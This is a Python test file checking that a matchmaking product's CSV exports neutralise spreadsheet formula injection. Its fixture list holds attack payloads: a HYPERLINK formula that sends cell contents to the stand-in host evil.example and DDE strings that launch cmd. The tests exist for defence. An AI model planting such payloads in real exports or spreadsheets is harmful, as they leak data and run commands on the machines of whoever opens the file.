"""Issue 16, item 3: CSV formula injection.

A name such as ``=HYPERLINK("http://evil.example/?"&A1, "click")`` must not reach a
spreadsheet as a formula from any CSV the product writes: ``GET /me/pipeline?format=csv``,
the web pipeline CSV, ``GET /events/{id}/plan?format=csv``, ``cofoundry event export``,
``cofoundry pipeline --csv``, a venture's ``timeline.csv`` and the rows written by
``cofoundry import --skip-invalid --rejected``. Cells that start with ``= + - @``, a tab
or a carriage return are neutralised (one function, :func:`matcher.csvio.safe_cell`).
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from typer.testing import CliRunner

from api.cli import app as cli
from matcher.community import Community
from tests.apps import app_over
from tests.conftest import COMMUNITY, person
from tests.web.pages import sign_in

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: a JSON number written as text is data, not a formula
_NUMBER = re.compile(r"^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?(/\d+)?$")


def dangerous_cells(text: str) -> list[str]:
    """The cells of a CSV document a spreadsheet would run as a formula."""
    return [
        cell
        for row in csv.reader(io.StringIO(text))
        for cell in row
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r") and not _NUMBER.match(cell)
    ]


def test_the_checker_finds_every_formula() -> None:
    doc = io.StringIO()
    csv.writer(doc).writerows([[f, "-1.5", "2/3"] for f in FORMULAS])
    assert dangerous_cells(doc.getvalue()) == FORMULAS


def evil(i: int) -> dict[str, str]:
    """Someone ana should meet, whose name is a formula."""
    return person(
        f"evil{i}",
        name=FORMULAS[i][:80].replace("\r", "\n") if FORMULAS[i].startswith("\r") else FORMULAS[i],
        offers="Sales lead: I find customers and close deals.",
        needs="A technical partner, a developer who can code the product.",
        roles_offered="sales",
        roles_sought="tech",
        languages="en;fr",
    )


#: a name is one line: one starting with a tab or a line break is refused where it enters
#: (tests/api/test_redteam14_one_line.py), so only the other formulas can be names
EVIL = [evil(i) for i, f in enumerate(FORMULAS) if f[:1] not in "\t\r"]


@pytest.fixture
def world(community: Community) -> tuple[TestClient, dict[str, str], Community]:
    community.profiles.import_profiles(EVIL)
    app = app_over(community)
    client = TestClient(app)
    auth = {"Authorization": f"Bearer {community.security.create_token('ana')}"}
    return client, auth, community


def test_pipeline_csv_has_no_formula(world: tuple[TestClient, dict[str, str], Community]) -> None:
    client, auth, _ = world
    r = client.get("/me/pipeline?format=csv&k=20", headers=auth)
    assert r.status_code == 200
    assert "evil0" in r.text  # the formula-named people are in it
    assert dangerous_cells(r.text) == []
    assert "'=HYPERLINK(" in r.text  # neutralised, still readable


def test_web_pipeline_csv_has_no_formula(
    world: tuple[TestClient, dict[str, str], Community],
) -> None:
    client, auth, _ = world
    sign_in(client, auth["Authorization"].removeprefix("Bearer "))
    r = client.get("/web/pipeline.csv")
    assert r.status_code == 200 and "evil0" in r.text
    assert dangerous_cells(r.text) == []


def _planned_event(client: TestClient, auth: dict[str, str]) -> None:
    assert client.post("/events", json={"id": "night"}, headers=auth).status_code == 201
    ids = ["ana", "bob", "cyd", *(p["id"] for p in EVIL)]
    r = client.post("/events/night/attendees", json={"ids": ids}, headers=auth)
    assert r.status_code == 200, r.text
    r = client.post("/events/night/rounds", json={"rounds": 2}, headers=auth)
    assert r.status_code == 200, r.text


def test_event_plan_csv_has_no_formula(world: tuple[TestClient, dict[str, str], Community]) -> None:
    client, auth, _ = world
    _planned_event(client, auth)
    r = client.get("/events/night/plan?format=csv", headers=auth)
    assert r.status_code == 200 and "evil0" in r.text
    assert dangerous_cells(r.text) == []


def _write_csv(path: Path, rows: list[dict[str, str]]) -> Path:
    cols = sorted({k for r in rows for k in r})
    with path.open("w", newline="", encoding="utf-8") as fh:
        w = csv.DictWriter(fh, fieldnames=cols)
        w.writeheader()
        w.writerows(rows)
    return path


def test_cli_exports_have_no_formula(env: Path) -> None:
    runner = CliRunner()
    src = _write_csv(env / "people.csv", COMMUNITY + EVIL)
    assert runner.invoke(cli, ["import", str(src)]).exit_code == 0
    r = runner.invoke(cli, ["event", "create", "night", "--organiser", "ana"])
    assert r.exit_code == 0, r.output
    ids = ["ana", "bob", "cyd", *(p["id"] for p in EVIL)]
    r = runner.invoke(cli, ["event", "add", "night", *ids])
    assert r.exit_code == 0, r.output
    assert runner.invoke(cli, ["event", "rounds", "night", "--rounds", "2"]).exit_code == 0
    r = runner.invoke(cli, ["event", "export", "night"])
    assert r.exit_code == 0 and "evil0" in r.stdout
    assert dangerous_cells(r.stdout) == []
    r = runner.invoke(cli, ["pipeline", "ana", "--csv", "--k", "20"])
    assert r.exit_code == 0 and "evil0" in r.stdout, r.output
    assert dangerous_cells(r.stdout) == []


def test_rejected_rows_have_no_formula(env: Path) -> None:
    rows = [
        person("a"),
        person("b", name="=1+1", commitment="weekends"),
        person("c", offers="@SUM(A1)", languages="klingon"),
        person("d", headline="-1+cmd|' /C calc'!A0", stage="="),
    ]
    src = _write_csv(env / "people.csv", rows)
    r = CliRunner().invoke(cli, ["import", str(src), "--skip-invalid"])
    assert r.exit_code == 0, r.output
    text = (env / "people.csv.rejected.csv").read_text(encoding="utf-8")
    assert "=1+1" in text
    assert dangerous_cells(text) == []


def test_timeline_csv_has_no_formula() -> None:
    """A venture's timeline names members by id (ids cannot start with a formula sign);
    it goes through the same writer, checked here on its cells."""
    import datetime as dt
    from decimal import Decimal
    from fractions import Fraction

    from matcher.equity import MemberSplit, Split, timeline_csv

    split = Split(
        dt.date(2024, 1, 1),
        Fraction(3),
        (MemberSplit("=cmd", Fraction(3), Fraction(1), Decimal("100.00")),),
    )
    assert dangerous_cells(timeline_csv([split])) == []


def test_timeline_csv_writes_shares_a_spreadsheet_reads_as_numbers() -> None:
    """A share written ``1/2`` or ``3/4`` is a date in a spreadsheet (1 February, 3 April):
    every share is a decimal, exact when it ends within 15 places, else rounded to 15."""
    import csv
    import datetime as dt
    import io
    from decimal import Decimal
    from fractions import Fraction

    from matcher.equity import MemberSplit, Split, timeline_csv

    shares = [Fraction(1, 2), Fraction(1, 4), Fraction(1, 12), Fraction(1, 6)]
    split = Split(
        dt.date(2024, 1, 1),
        Fraction(12),
        tuple(MemberSplit(f"m{i}", 12 * s, s, Decimal(0)) for i, s in enumerate(shares)),
    )
    rows = list(csv.DictReader(io.StringIO(timeline_csv([split]))))
    assert [r["share"] for r in rows] == ["0.5", "0.25", "0.083333333333333", "0.166666666666667"]
    for row, exact in zip(rows, shares, strict=True):
        assert "/" not in row["share"]
        assert abs(Fraction(Decimal(row["share"])) - exact) <= Fraction(5, 10**16)


def test_every_csv_writer_of_the_product_is_the_safe_one() -> None:
    """A new CSV export must use matcher.csvio.writer, not csv.writer / csv.DictWriter."""
    root = Path(__file__).resolve().parents[2]
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(root))
        for package in ("api", "matcher", "embeddings", "graph")
        for path in sorted((root / package).rglob("*.py"))
        if path.name != "csvio.py" and raw.search(path.read_text(encoding="utf-8"))
    ]
    assert offenders == []
